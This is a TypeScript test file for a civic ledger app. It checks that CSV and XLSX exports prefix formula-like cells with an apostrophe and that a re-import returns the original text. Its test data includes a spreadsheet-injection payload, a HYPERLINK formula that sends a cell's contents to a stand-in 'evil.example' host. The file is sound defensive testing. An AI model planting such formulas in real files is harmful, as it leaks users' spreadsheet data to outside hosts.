// Text a spreadsheet would run as a formula (=, +, -, @, tab, CR at the start) leaves the
// server neutralised with a leading apostrophe, in CSV and in XLSX, and an import of that
// file gives the original text back (a CR comes back as LF from XLSX, as XML reads it).
import { parseCsv } from '@civic-ledger/shared';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type District, startDistrict, writeRows } from '../support/district.ts';

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  '+86 138 0000 0000',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];
const HARMLESS = ['楼道堆物 = 3 处', 'a-b-c'];

let d: District;

beforeAll(async () => {
  d = await startDistrict();
  const ledger = await d.open('ledger.taoyuan', 'r-staff');
  await writeRows(
    ledger,
    [...DANGEROUS, ...HARMLESS].map((description) => ({
      committeeId: 'taoyuan',
      siteId: d.sites.get('桃园菜场'),
      category: 'street_rubbish',
      description,
      source: 'self_check',
      foundAt: '2026-11-20T09:30:00+08:00',
    })),
  );
}, 120_000);
afterAll(async () => {
  await d?.close();
});

describe('formula neutralisation', () => {
  it('CSV prefixes every formula-like cell with an apostrophe and leaves others alone', async () => {
    const res = await d.api('/api/export/csv?table=ledger', 'r-staff');
    const text = new TextDecoder().decode(new Uint8Array(await res.arrayBuffer()));
    const parsed = parseCsv(text);
    if (!parsed.ok) throw new Error(parsed.error.message.en);
    const descriptions = parsed.value.slice(1).map((r) => r[4]);
    expect(descriptions.sort()).toEqual([...DANGEROUS.map((t) => `'${t}`), ...HARMLESS].sort());
    // The phone column of the people registry is neutralised the same way.
    const people = await d.api('/api/export/csv?table=people', 'r-staff');
    expect(await people.text()).toContain("'+86 138 0000 0000");
  });

  it('XLSX holds them as text cells with the apostrophe, never as formulas', async () => {
    const res = await d.api('/api/export/xlsx?table=ledger', 'r-staff');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const ws = wb.getWorksheet('问题台账');
    const descriptions: string[] = [];
    ws?.eachRow((row, n) => {
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
      if (n > 1) descriptions.push(String(row.getCell(5).value));
    });
    // XML reads a CR in text as LF (Excel does the same); the apostrophe is what matters.
    expect(descriptions.sort()).toEqual(
      [...DANGEROUS.map((t) => `'${t.replace('\r', '\n')}`), ...HARMLESS].sort(),
    );
  });

  it('an import of the exported sheet gives the original text back', async () => {
    const res = await d.api('/api/export/xlsx?table=ledger&committee=taoyuan', 'r-staff');
    const form = new FormData();
    form.set('file', new Blob([await res.arrayBuffer()]), 'ledger.xlsx');
    form.set('room', 'ledger.taoyuan');
    const preview = await d.api('/api/import/preview', 'r-staff', { method: 'POST', body: form });
    expect(preview.status).toBe(200);
    const body = (await preview.json()) as {
      preview: { rows: { values: Record<string, unknown> }[]; rejected: unknown[] };
    };
    // Every row already exists under its id, so each is refused as a duplicate ...
    expect(body.preview.rows).toHaveLength(0);
    expect(body.preview.rejected).toHaveLength(DANGEROUS.length + HARMLESS.length);
    // ... but mapped without the id column, the text comes back exactly as it was typed.
    const mapping = [
      { column: 2, field: 'siteId' },
      { column: 3, field: 'category' },
      { column: 4, field: 'description' },
      { column: 5, field: 'source' },
      { column: 6, field: 'foundAt' },
    ];
    const again = new FormData();
    again.set(
      'file',
      new Blob([
        await (await d.api('/api/export/xlsx?table=ledger&committee=taoyuan', 'r-staff')).arrayBuffer(),
      ]),
      'ledger.xlsx',
    );
    again.set('room', 'ledger.taoyuan');
    again.set('mapping', JSON.stringify(mapping));
    const remapped = (await (
      await d.api('/api/import/preview', 'r-staff', { method: 'POST', body: again })
    ).json()) as {
      preview: { rows: { values: Record<string, unknown> }[] };
    };
    expect(remapped.preview.rows.map((r) => r.values.description).sort()).toEqual(
      [...DANGEROUS.map((t) => t.replace('\r', '\n')), ...HARMLESS].sort(),
    );
  });
});
